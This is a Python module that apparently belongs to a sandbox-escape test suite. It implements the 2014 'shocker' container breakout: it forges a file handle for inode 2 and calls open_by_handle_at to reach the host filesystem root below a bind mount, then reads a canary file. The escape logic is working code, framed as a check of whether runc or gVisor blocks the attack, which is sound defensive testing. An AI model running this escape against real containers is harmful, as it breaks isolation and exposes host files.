"""Open a host file by its handle: open_by_handle_at(2) knows no mount namespace.

The "shocker" exploit of 2014: DAC_READ_SEARCH (in `--privileged`, or added) lets a process open the
root inode of the file system that lies below any bind mount, and walk from there.
"""

from __future__ import annotations

import ctypes
import os
from collections.abc import Iterator
from typing import Any

from sandboxd.inside.escapes._kernel import NotApplicable, call, mounts

TITLE = "open a host file by handle (shocker)"
JUDGE = "token"
EXPECTED = {"runc": "no DAC_READ_SEARCH", "runsc": "not implemented"}


class _Handle(ctypes.Structure):
    _fields_ = [
        ("size", ctypes.c_uint),
        ("kind", ctypes.c_int),
        ("bytes", ctypes.c_ubyte * 8),
    ]


def attempt(facts: dict[str, Any]) -> dict[str, Any]:
    ours = ("/etc/", facts["workspace"] or "/etc/")
    binds = [each for each in mounts() if each.point.startswith(ours)]
    if not binds:
        raise NotApplicable("nothing is mounted from the host")
    # Inode 2 is the root folder of ext2, ext3 and ext4.
    handle = _Handle(8, 1, (ctypes.c_ubyte * 8)(2))
    last = OSError("no handle")
    for bind in binds:
        around = os.open(bind.point, os.O_RDONLY)
        try:
            root = call("open_by_handle_at", around, ctypes.byref(handle), os.O_RDONLY)
        except OSError as error:
            last = error
            continue
        finally:
            os.close(around)
        for place in _places(facts["canary"], bind.root):
            try:
                file = os.open(place, os.O_RDONLY, dir_fd=root)
                return {
                    "token": os.read(file, 256).decode("utf-8", "replace"),
                    "detail": bind.point,
                }
            except OSError as error:
                last = error
    raise last


def _places(canary: str, shown: str) -> Iterator[str]:
    """The paths that a file of the host may have below the root of a file system of which `shown` is mounted here.

    The file system may itself be mounted somewhere on the host (`/home`), or the host see a folder of it alone.
    """
    names = canary.strip("/").split("/")
    above = shown.strip("/").split("/") if shown.strip("/") else []
    for head in range(len(above) + 1):
        for tail in range(len(names)):
            yield "/".join([*above[:head], *names[tail:]])
